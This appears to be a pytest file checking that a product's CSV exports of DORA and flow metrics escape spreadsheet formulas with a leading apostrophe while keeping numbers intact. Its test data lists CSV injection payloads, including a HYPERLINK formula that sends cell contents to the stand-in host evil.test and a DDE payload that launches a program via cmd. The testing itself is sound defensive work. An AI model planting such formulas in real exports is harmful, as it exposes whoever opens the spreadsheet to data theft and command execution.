"""Every CSV the product writes (the DORA report and records, the flow records) writes text that a
spreadsheet would run as a formula with a leading apostrophe; numbers stay numbers, negative ones
included."""

from __future__ import annotations

import csv
import io

import pytest

from analytics.api.csv_export import CsvRenderer, csv_cell
from tests.analytics.dora_support import History, utc
from tests.analytics.flow_support import item

pytestmark = pytest.mark.django_db
DORA = "/api/v1/orgs/acme/metrics/dora/"
FLOW = "/api/v1/orgs/acme/metrics/flow/records/"
# What OWASP lists for CSV injection: each would be run by a spreadsheet.
FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def _rows(response) -> list[dict]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_leading_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, True, "plain", "a=b", "INC-1", ""])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_none_is_an_empty_cell():
    assert csv_cell(None) == ""


def test_the_renderer_escapes_nested_and_listed_text_and_keeps_negative_numbers():
    body = CsvRenderer().render({"results": [
        {"service": "=cmd", "block": {"note": "@x", "hours": -4.5}, "incidents": ["+a", "b"]}]})
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert rows == [{"service": "'=cmd", "block.note": "'@x", "block.hours": "-4.5", "incidents": "'+a;b"}]


@pytest.fixture
def dora_history(org_a):
    history = History(org_a, slug="checkout")
    history.commit("c1", utc(3, 5, 20))
    # Committed after the deployment that carried it finished: a negative lead time, a real number.
    history.deploy(utc(3, 5, 18), "c1", version=FORMULAS[0], lists=("c1",))
    history.deploy(utc(3, 6, 9), version=FORMULAS[3])
    history.incident(utc(3, 6, 10), utc(3, 6, 12), number=FORMULAS[1])
    history.derive()
    return history


def test_dora_records_csv(api_a, dora_history):
    rows = _rows(api_a.get(f"{DORA}records/", {"from": "2026-03-01", "to": "2026-03-15",
                                              "metric": "change_failure_rate", "format": "csv"}))
    assert {row["version"] for row in rows} == {"'" + FORMULAS[0], "'" + FORMULAS[3]}
    assert "'" + FORMULAS[1] in {row["incidents"] for row in rows}


def test_dora_records_csv_keeps_a_negative_lead_time_a_number(api_a, dora_history):
    rows = _rows(api_a.get(f"{DORA}records/", {"from": "2026-03-01", "to": "2026-03-15",
                                              "metric": "change_lead_time", "format": "csv"}))
    assert float(rows[0]["hours"]) == -2.0


def test_dora_report_csv(api_a, dora_history):
    rows = _rows(api_a.get(DORA, {"from": "2026-03-01", "to": "2026-03-15", "format": "csv"}))
    assert rows[0]["deployment_frequency.deployments"] == "2"
    assert not any(cell.startswith("'") for row in rows for cell in row.values())


def test_flow_records_csv(api_a, org_a):
    for text in FORMULAS:
        item(org_a, created="03-01 09:00", resolved="03-06 12:00", title=text,
             moves=[("03-04 08:00", "In Progress"), ("03-06 12:00", "Done")])
    rows = _rows(api_a.get(f"{FLOW}?from=2024-03-04&to=2024-03-12&metric=flow_time&format=csv"))
    assert sorted(row["title"] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert all(float(row["flow_time_hours"]) > 0 for row in rows)
